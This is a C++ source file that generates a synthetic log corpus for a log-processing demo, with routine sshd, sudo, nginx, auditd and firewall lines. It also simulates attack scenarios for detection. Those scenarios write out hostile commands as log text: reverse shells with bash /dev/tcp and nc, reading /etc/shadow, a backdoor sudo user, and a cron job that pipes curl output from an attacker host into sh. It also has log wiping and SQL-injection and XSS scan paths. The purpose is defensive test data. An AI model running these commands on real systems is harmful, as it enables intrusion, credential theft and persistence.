// SPDX-License-Identifier: Apache-2.0
/// The demo corpus. Line shapes follow what the real daemons write (OpenSSH's auth messages,
/// sudo's `TTY= ; PWD= ; USER= ; COMMAND=`, netfilter's LOG target, nginx's combined log format,
/// postfix's queue ids, the Linux audit record format, ArcSight CEF rev. 25); the content is
/// invented. Keep every line free of '\n': the TCP LF framing and `--print` rely on it.
#include "sluice/blast/corpus_generator.hpp"

#include <fmt/format.h>

#include "sluice/common/assert.hpp"

#include <iterator>
#include <string>

namespace sluice::blast {
namespace {

constexpr std::string_view month_names[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                            "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

constexpr std::string_view linux_hosts[] = {
    "web-01", "web-02", "web-03",     "web-04",     "db-01",      "db-02",      "app-01",
    "app-02", "app-03", "bastion-01", "k8s-node-1", "k8s-node-2", "k8s-node-3", "ci-runner-1"};
constexpr std::string_view web_hosts[] = {"web-01", "web-02", "web-03", "web-04"};
constexpr std::string_view users[] = {"alice", "bob",    "carol",   "dave",
                                      "erin",  "deploy", "ansible", "backup"};
constexpr std::string_view admin_commands[] = {
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/systemctl status postgresql",
    "/usr/bin/apt-get update",
    "/usr/bin/apt-get -y upgrade",
    "/usr/bin/journalctl -u nginx --since today",
    "/usr/bin/tail -n 100 /var/log/nginx/error.log",
    "/usr/sbin/ip addr show",
    "/usr/bin/docker ps",
    "/bin/ls -la /var/lib/postgresql",
    "/usr/bin/du -sh /var/log",
};
constexpr std::string_view cron_commands[] = {
    "/usr/lib/sysstat/debian-sa1 1 1",
    "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
    "/usr/local/bin/backup.sh --incremental",
    "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean",
    "/usr/bin/certbot renew --quiet",
};
constexpr std::string_view systemd_messages[] = {
    "Starting Daily apt download activities...",
    "Finished Daily apt download activities.",
    "Started Session {n} of User {user}.",
    "session-{n}.scope: Deactivated successfully.",
    "nginx.service: Reloaded A high performance web server and a reverse proxy server.",
    "Starting Cleanup of Temporary Directories...",
    "systemd-tmpfiles-clean.service: Deactivated successfully.",
    "Started Run anacron jobs.",
    "logrotate.service: Deactivated successfully.",
    "app-worker@{n}.service: Main process exited, code=exited, status=1/FAILURE",
};
constexpr std::string_view web_paths[] = {
    "/",
    "/index.html",
    "/static/css/site.css",
    "/static/js/app.js",
    "/api/v1/orders?page=2",
    "/api/v1/users/me",
    "/login",
    "/healthz",
    "/images/logo.png",
    "/products/4711",
    "/search?q=blue+shoes",
    "/favicon.ico",
};
constexpr std::string_view user_agents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "curl/7.88.1",
    "kube-probe/1.29",
    "Go-http-client/1.1",
};
constexpr std::string_view scan_paths[] = {
    "/index.php?id=1%27%20OR%20%271%27%3D%271",
    "/products.php?id=1+UNION+SELECT+username,password+FROM+users--",
    "/item?id=1%20AND%20SLEEP(5)",
    "/login.php?user=admin%27--&pass=x",
    "/download?file=../../../../etc/passwd",
    "/static/../../../../etc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/search?q=<script>alert(document.cookie)</script>",
    "/comment?text=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/phpmyadmin/index.php",
};
constexpr std::string_view scanner_agents[] = {
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "sqlmap/1.6.12#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
};
constexpr std::string_view brute_force_users[] = {"admin", "oracle",   "test", "ubuntu",
                                                  "pi",    "postgres", "git",  "support"};
constexpr std::string_view json_services[] = {"payments", "checkout", "inventory", "auth-api"};
constexpr std::string_view json_events[] = {"payment.authorized", "cart.updated", "stock.reserved",
                                            "user.login", "token.refreshed"};
constexpr std::string_view json_levels[] = {"info", "info", "info", "debug", "warn", "error"};
constexpr std::string_view mail_domains[] = {"example.com", "example.org", "example.net"};
constexpr std::string_view audit_benign[][3] = {
    {"ls", "-la", "/srv/app"},    {"ps", "aux", ""},
    {"git", "pull", "--ff-only"}, {"python3", "/srv/app/manage.py", "migrate"},
    {"grep", "-r", "TODO"},
};

}  // namespace

CorpusGenerator::CorpusGenerator(CorpusOptions options)
    : options_(options), state_(options.seed), now_(options.start) {
  // 512 bytes hold every line we write; larger ones grow the buffer once.
  line_.reserve(512);
}

std::uint64_t CorpusGenerator::random() {
  // splitmix64 (Steele, Lea, Flood 2014): tiny, fast and the same on every platform.
  state_ += 0x9E3779B97F4A7C15ULL;
  std::uint64_t z = state_;
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
  return z ^ (z >> 31);
}

std::uint64_t CorpusGenerator::below(std::uint64_t bound) {
  // The modulo bias is below 2^-50 for our bounds; determinism matters, uniformity hardly.
  return bound == 0 ? 0 : random() % bound;
}

bool CorpusGenerator::chance(double p) {
  return static_cast<double>(random() >> 11) * 0x1.0p-53 < p;
}

std::string_view CorpusGenerator::next() {
  line_.clear();
  advance_clock();
  if (scenario_ == Scenario::none && chance(options_.attack_start_probability)) start_scenario();
  // Loud scenarios come in bursts; quiet ones are spread out between routine lines.
  const bool loud = scenario_ == Scenario::ssh_brute_force || scenario_ == Scenario::web_scan;
  if (scenario_ != Scenario::none && chance(loud ? 0.7 : 0.3)) {
    write_attack();
    last_kind_ = LineKind::attack;
    ++attack_lines_;
  } else {
    write_benign();
    last_kind_ = LineKind::benign;
  }
  ++lines_;
  return line_;
}

void CorpusGenerator::advance_clock() {
  const auto mean = options_.mean_gap.count();
  now_ += std::chrono::milliseconds{static_cast<std::int64_t>(below(2 * mean + 1))};
}

void CorpusGenerator::start_scenario() {
  scenario_ = static_cast<Scenario>(1 + below(7));
  scenario_step_ = 0;
  attacker_ip_ = random_external_ip();
  victim_user_ = std::string(pick(users));
  switch (scenario_) {
    case Scenario::ssh_brute_force:
      victim_host_ = chance(0.5) ? "bastion-01" : std::string(pick(linux_hosts));
      scenario_left_ = 20 + static_cast<std::uint32_t>(below(41));
      break;
    case Scenario::web_scan:
      victim_host_ = std::string(pick(web_hosts));
      scenario_left_ = 10 + static_cast<std::uint32_t>(below(21));
      break;
    case Scenario::reverse_shell:
    case Scenario::shadow_read:
    case Scenario::add_user:
    case Scenario::cron_persistence:
    case Scenario::log_clearing:
      victim_host_ = std::string(pick(linux_hosts));
      scenario_left_ = 3;
      break;
    case Scenario::none:
      SLUICE_UNREACHABLE();
  }
}

// ---- routine traffic -----------------------------------------------------------------------

void CorpusGenerator::write_benign() {
  const auto roll = below(100);
  const std::string_view host = pick(linux_hosts);
  if (roll < 14) {
    sshd_line(host);
  } else if (roll < 20) {
    sudo_line(host, pick(users), pick(admin_commands));
  } else if (roll < 28) {
    cron_line(host, chance(0.7) ? "root" : "www-data", pick(cron_commands));
  } else if (roll < 38) {
    systemd_line(host);
  } else if (roll < 50) {
    kernel_firewall_line();
  } else if (roll < 66) {
    web_access_line(random_internal_ip(), chance(0.8) ? "GET" : "POST", pick(web_paths),
                    chance(0.9) ? 200 : 304, pick(user_agents), false);
  } else if (roll < 72) {
    web_access_line(random_internal_ip(), "GET", pick(web_paths), chance(0.95) ? 200 : 404,
                    pick(user_agents), true);
  } else if (roll < 80) {
    postfix_line();
  } else if (roll < 84) {
    const auto& args = pick(audit_benign);
    if (args[2].empty()) {
      auditd_execve_line(host, {args[0], args[1]});
    } else {
      auditd_execve_line(host, {args[0], args[1], args[2]});
    }
  } else if (roll < 86) {
    auditd_syscall_line(host);
  } else if (roll < 90) {
    cef_line();
  } else if (roll < 96) {
    json_line();
  } else {
    rfc5424_app_line();
  }
}

// ---- attacks -------------------------------------------------------------------------------

void CorpusGenerator::write_attack() {
  const std::uint32_t step = scenario_step_++;
  const bool last = --scenario_left_ == 0;
  const std::string_view ip = attacker_ip_;
  const std::string_view host = victim_host_;
  const std::string_view user = victim_user_;
  auto out = std::back_inserter(line_);
  switch (scenario_) {
    case Scenario::ssh_brute_force: {
      rfc3164_header(4, 6, host, "sshd", true);
      const auto port = 30000 + below(30000);
      if (last && chance(0.25)) {
        fmt::format_to(out, "Accepted password for root from {} port {} ssh2", ip, port);
      } else if (const auto roll = below(100); roll < 60) {
        fmt::format_to(out, "Failed password for root from {} port {} ssh2", ip, port);
      } else if (roll < 85) {
        fmt::format_to(out, "Failed password for invalid user {} from {} port {} ssh2",
                       pick(brute_force_users), ip, port);
      } else {
        fmt::format_to(out, "Invalid user {} from {} port {}", pick(brute_force_users), ip, port);
      }
      break;
    }
    case Scenario::web_scan:
      web_access_line(ip, chance(0.85) ? "GET" : "POST", pick(scan_paths),
                      chance(0.6) ? 404 : (chance(0.5) ? 403 : 500), pick(scanner_agents), false);
      break;
    case Scenario::reverse_shell: {
      const auto shell = fmt::format("bash -i >& /dev/tcp/{}/4444 0>&1", ip);
      if (step == 0) {
        sudo_line(host, user, fmt::format("/usr/bin/nc -e /bin/sh {} 4444", ip));
      } else if (step == 1) {
        auditd_execve_line(host, {"bash", "-c", shell});
      } else {
        auditd_execve_line(host, {"nc", "-e", "/bin/sh", ip, "4444"});
      }
      break;
    }
    case Scenario::shadow_read:
      if (step == 0) {
        sudo_line(host, user, "/bin/cat /etc/shadow");
      } else if (step == 1) {
        auditd_execve_line(host, {"cat", "/etc/shadow"});
      } else {
        auditd_execve_line(host, {"cp", "/etc/shadow", "/tmp/.s"});
      }
      break;
    case Scenario::add_user:
      if (step == 0) {
        sudo_line(host, user, "/usr/sbin/useradd -m -s /bin/bash svc-update");
      } else if (step == 1) {
        rfc3164_header(10, 6, host, "useradd", true);
        fmt::format_to(out,
                       "new user: name=svc-update, UID=1007, GID=1007, home=/home/svc-update, "
                       "shell=/bin/bash, from=/dev/pts/1");
      } else {
        rfc3164_header(10, 6, host, "usermod", true);
        fmt::format_to(out, "add 'svc-update' to group 'sudo'");
      }
      break;
    case Scenario::cron_persistence: {
      const auto payload = fmt::format("curl -fsSL http://{}/u.sh | sh", ip);
      if (step == 0) {
        sudo_line(host, user, "/usr/bin/crontab -e");
      } else if (step == 1) {
        auditd_execve_line(
            host, {"sh", "-c",
                   fmt::format("echo '*/5 * * * * {}' >> /var/spool/cron/crontabs/root", payload)});
      } else {
        cron_line(host, "root", payload);
      }
      break;
    }
    case Scenario::log_clearing:
      if (step == 0) {
        auditd_execve_line(host, {"bash", "-c", "history -c"});
      } else if (step == 1) {
        sudo_line(host, user, "/bin/rm -f /var/log/auth.log");
      } else {
        sudo_line(host, user, "/usr/bin/truncate -s 0 /var/log/syslog");
      }
      break;
    case Scenario::none:
      SLUICE_UNREACHABLE();
  }
  if (last) scenario_ = Scenario::none;
}

// ---- line pieces ---------------------------------------------------------------------------

void CorpusGenerator::rfc3164_header(int facility, int severity, std::string_view host,
                                     std::string_view tag, bool with_pid) {
  // RFC 3164 section 4.1.2: "Mmm dd hh:mm:ss", the day padded with a space.
  using namespace std::chrono;
  const auto day = floor<days>(now_);
  const year_month_day ymd{day};
  const hh_mm_ss hms{floor<seconds>(now_ - day)};
  auto out = std::back_inserter(line_);
  fmt::format_to(out, "<{}>{} {:>2} {:02}:{:02}:{:02} {} {}", facility * 8 + severity,
                 month_names[static_cast<unsigned>(ymd.month()) - 1],
                 static_cast<unsigned>(ymd.day()), hms.hours().count(), hms.minutes().count(),
                 hms.seconds().count(), host, tag);
  if (with_pid) fmt::format_to(out, "[{}]", 1000 + below(60000));
  line_ += ": ";
}

void CorpusGenerator::rfc5424_header(int facility, int severity, std::string_view host,
                                     std::string_view app, std::string_view msgid) {
  // RFC 5424 section 6: PRI VERSION SP TIMESTAMP SP HOSTNAME SP APP-NAME SP PROCID SP MSGID.
  fmt::format_to(std::back_inserter(line_), "<{}>1 ", facility * 8 + severity);
  iso_time();
  fmt::format_to(std::back_inserter(line_), " {} {} {} {} ", host, app, 1000 + below(60000), msgid);
}

void CorpusGenerator::iso_time() {
  using namespace std::chrono;
  const auto day = floor<days>(now_);
  const year_month_day ymd{day};
  const hh_mm_ss hms{now_ - day};
  fmt::format_to(std::back_inserter(line_), "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}.{:03}Z",
                 static_cast<int>(ymd.year()), static_cast<unsigned>(ymd.month()),
                 static_cast<unsigned>(ymd.day()), hms.hours().count(), hms.minutes().count(),
                 hms.seconds().count(), hms.subseconds().count());
}

void CorpusGenerator::clf_time() {
  // Common Log Format: [11/Mar/2024:08:00:01 +0000].
  using namespace std::chrono;
  const auto day = floor<days>(now_);
  const year_month_day ymd{day};
  const hh_mm_ss hms{floor<seconds>(now_ - day)};
  fmt::format_to(std::back_inserter(line_), "[{:02}/{}/{:04}:{:02}:{:02}:{:02} +0000]",
                 static_cast<unsigned>(ymd.day()),
                 month_names[static_cast<unsigned>(ymd.month()) - 1], static_cast<int>(ymd.year()),
                 hms.hours().count(), hms.minutes().count(), hms.seconds().count());
}

std::string CorpusGenerator::random_internal_ip() {
  return fmt::format("10.{}.{}.{}", below(4), below(8), 2 + below(250));
}

std::string CorpusGenerator::random_external_ip() {
  // RFC 5737 documentation ranges only.
  constexpr std::string_view prefixes[] = {"192.0.2", "198.51.100", "203.0.113"};
  return fmt::format("{}.{}", pick(prefixes), 1 + below(254));
}

void CorpusGenerator::sshd_line(std::string_view host) {
  rfc3164_header(4, 6, host, "sshd", true);
  auto out = std::back_inserter(line_);
  const auto ip = random_internal_ip();
  const auto port = 40000 + below(25000);
  const std::string_view user = pick(users);
  switch (below(7)) {
    case 0:
      fmt::format_to(out, "Accepted publickey for {} from {} port {} ssh2: ED25519 SHA256:{:016x}",
                     user, ip, port, random());
      break;
    case 1:
      fmt::format_to(out, "Accepted password for {} from {} port {} ssh2", user, ip, port);
      break;
    case 2:
      fmt::format_to(out, "pam_unix(sshd:session): session opened for user {}(uid={}) by (uid=0)",
                     user, 1000 + below(8));
      break;
    case 3:
      fmt::format_to(out, "Connection closed by {} port {} [preauth]", ip, port);
      break;
    case 4:
      fmt::format_to(out, "Disconnected from user {} {} port {}", user, ip, port);
      break;
    case 5:
      // An honest typo now and then keeps "Failed password" from meaning "attack" by itself.
      fmt::format_to(out, "Failed password for {} from {} port {} ssh2", user, ip, port);
      break;
    default:
      fmt::format_to(out, "Received disconnect from {} port {}:11: disconnected by user", ip, port);
      break;
  }
}

void CorpusGenerator::sudo_line(std::string_view host, std::string_view user,
                                std::string_view command) {
  // sudo logs to authpriv (10) at notice.
  rfc3164_header(10, 5, host, "sudo", false);
  fmt::format_to(std::back_inserter(line_),
                 "{:>8} : TTY=pts/{} ; PWD=/home/{} ; USER=root ; COMMAND={}", user, below(4), user,
                 command);
}

void CorpusGenerator::cron_line(std::string_view host, std::string_view user,
                                std::string_view command) {
  rfc3164_header(9, 6, host, "CRON", true);
  fmt::format_to(std::back_inserter(line_), "({}) CMD ({})", user, command);
}

void CorpusGenerator::systemd_line(std::string_view host) {
  rfc3164_header(3, 6, host, "systemd", false);
  // "systemd[1]" is always PID 1; write it by hand rather than draw a pid.
  line_.insert(line_.size() - 2, "[1]");
  std::string_view message = pick(systemd_messages);
  const auto n = std::to_string(1 + below(900));
  const std::string_view user = pick(users);
  // Fill the two placeholders without fmt's runtime-format machinery.
  for (std::size_t i = 0; i < message.size(); ++i) {
    if (message.compare(i, 3, "{n}") == 0) {
      line_ += n;
      i += 2;
    } else if (message.compare(i, 6, "{user}") == 0) {
      line_ += user;
      i += 5;
    } else {
      line_ += message[i];
    }
  }
}

void CorpusGenerator::kernel_firewall_line() {
  // netfilter LOG target output, as the kernel writes it to syslog (kern.warning).
  rfc3164_header(0, 4, "fw-01", "kernel", false);
  const bool tcp = chance(0.8);
  constexpr int ports[] = {22, 23, 80, 443, 445, 3389, 5432, 8080};
  const auto uptime_us = 1000000000ULL + below(900000000000ULL);
  fmt::format_to(std::back_inserter(line_),
                 "[{}.{:06}] {} IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:ab:cd:ef:08:00 "
                 "SRC={} DST=10.0.0.{} LEN={} TOS=0x00 PREC=0x00 TTL={} ID={} DF PROTO={} "
                 "SPT={} DPT={}",
                 uptime_us / 1000000, uptime_us % 1000000,
                 chance(0.7) ? "IPTABLES-DROP:" : "IPTABLES-ACCEPT:", random_external_ip(),
                 2 + below(60), 40 + below(1400), 40 + below(24), below(65536), tcp ? "TCP" : "UDP",
                 1024 + below(64000), pick(ports));
  if (tcp)
    fmt::format_to(std::back_inserter(line_), " WINDOW={} RES=0x00 SYN URGP=0",
                   1024 + below(64000));
}

void CorpusGenerator::web_access_line(std::string_view client, std::string_view method,
                                      std::string_view path, int status,
                                      std::string_view user_agent, bool rfc5424) {
  const std::string_view host = rfc5424 ? "web-02" : pick(web_hosts);
  if (rfc5424) {
    rfc5424_header(23, 6, host, "apache2", "access");
    line_ += "- ";
  } else {
    rfc3164_header(23, 6, host, "nginx", false);
  }
  fmt::format_to(std::back_inserter(line_), "{} - - ", client);
  clf_time();
  fmt::format_to(std::back_inserter(line_), " \"{} {} HTTP/1.1\" {} {} \"-\" \"{}\"", method, path,
                 status, status == 304 ? 0 : 120 + below(40000), user_agent);
}

void CorpusGenerator::postfix_line() {
  const std::string_view domain = pick(mail_domains);
  const auto queue_id = random() & 0xFFFFFFFFFULL;
  auto out = std::back_inserter(line_);
  switch (below(4)) {
    case 0:
      rfc3164_header(2, 6, "mail-01", "postfix/smtpd", true);
      fmt::format_to(out, "connect from mx{}.{}[{}]", below(4), domain, random_external_ip());
      break;
    case 1:
      rfc3164_header(2, 6, "mail-01", "postfix/qmgr", true);
      fmt::format_to(out, "{:09X}: from=<{}@{}>, size={}, nrcpt=1 (queue active)", queue_id,
                     pick(users), domain, 800 + below(90000));
      break;
    case 2:
      rfc3164_header(2, 6, "mail-01", "postfix/smtp", true);
      fmt::format_to(out,
                     "{:09X}: to=<{}@{}>, relay=mx.{}[{}]:25, delay=0.{}, "
                     "delays=0.01/0/0.1/0.2, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued)",
                     queue_id, pick(users), domain, domain, random_external_ip(), below(99));
      break;
    default:
      rfc3164_header(2, 6, "mail-01", "postfix/smtpd", true);
      fmt::format_to(out, "disconnect from unknown[{}] ehlo=1 mail=1 rcpt=0/1 quit=1 commands=3/4",
                     random_external_ip());
      break;
  }
}

void CorpusGenerator::auditd_execve_line(std::string_view host,
                                         std::initializer_list<std::string_view> args) {
  // Linux audit EXECVE record as audisp-syslog forwards it. Real auditd hex-encodes arguments
  // with spaces; we keep them quoted so the demo reads well.
  rfc3164_header(1, 6, host, "audisp-syslog", false);
  const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(now_.time_since_epoch());
  auto out = std::back_inserter(line_);
  fmt::format_to(out, "type=EXECVE msg=audit({}.{:03}:{}): argc={}", ms.count() / 1000,
                 ms.count() % 1000, ++audit_serial_, args.size());
  std::size_t i = 0;
  for (const auto arg : args)
    fmt::format_to(out, " a{}=\"{}\"", i++, arg);
}

void CorpusGenerator::auditd_syscall_line(std::string_view host) {
  rfc3164_header(1, 6, host, "audisp-syslog", false);
  const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(now_.time_since_epoch());
  const auto uid = 1000 + below(8);
  fmt::format_to(std::back_inserter(line_),
                 "type=SYSCALL msg=audit({}.{:03}:{}): arch=c000003e syscall=59 success=yes "
                 "exit=0 ppid={} pid={} auid={} uid={} gid={} euid={} tty=pts0 ses={} "
                 "comm=\"ls\" exe=\"/usr/bin/ls\" key=\"exec\"",
                 ms.count() / 1000, ms.count() % 1000, ++audit_serial_, 1000 + below(60000),
                 1000 + below(60000), uid, uid, uid, uid, below(900));
}

void CorpusGenerator::cef_line() {
  // ArcSight CEF: CEF:Version|Vendor|Product|Version|Signature ID|Name|Severity|Extension.
  rfc3164_header(16, 6, "fw-edge-01", "", false);
  // The CEF header stands where the tag would; drop the ": " the tag writer added.
  line_.resize(line_.size() - 3);
  line_ += ' ';
  const bool deny = chance(0.3);
  auto out = std::back_inserter(line_);
  fmt::format_to(
      out,
      "CEF:0|Acme Networks|EdgeWall|5.2.1|{}|{}|{}|rt={} src={} spt={} dst={} "
      "dpt={} proto=TCP act={} cs1Label=rule cs1={}",
      deny ? "traffic:deny" : "traffic:allow", deny ? "Traffic denied" : "Traffic allowed",
      deny ? 5 : 3,
      std::chrono::duration_cast<std::chrono::milliseconds>(now_.time_since_epoch()).count(),
      random_internal_ip(), 1024 + below(64000), random_external_ip(), deny ? 25 : 443,
      deny ? "deny" : "allow", deny ? "block-smtp-out" : "allow-web");
}

void CorpusGenerator::json_line() {
  line_ += "{\"ts\":\"";
  iso_time();
  fmt::format_to(std::back_inserter(line_),
                 "\",\"host\":\"k8s-node-{}\",\"service\":\"{}\",\"level\":\"{}\","
                 "\"event\":\"{}\",\"user\":\"{}\",\"src_ip\":\"{}\",\"latency_ms\":{},"
                 "\"trace_id\":\"{:016x}\"}}",
                 1 + below(3), pick(json_services), pick(json_levels), pick(json_events),
                 pick(users), random_internal_ip(), below(800), random());
}

void CorpusGenerator::rfc5424_app_line() {
  rfc5424_header(16, 5, pick(linux_hosts), "billing", "ID47");
  fmt::format_to(std::back_inserter(line_),
                 "[meta@32473 tenant=\"t{}\" region=\"eu-west-1\"] invoice {} issued to "
                 "customer {} amount={}.{:02} EUR",
                 below(50), 100000 + below(900000), 5000 + below(5000), below(2000), below(100));
}

}  // namespace sluice::blast
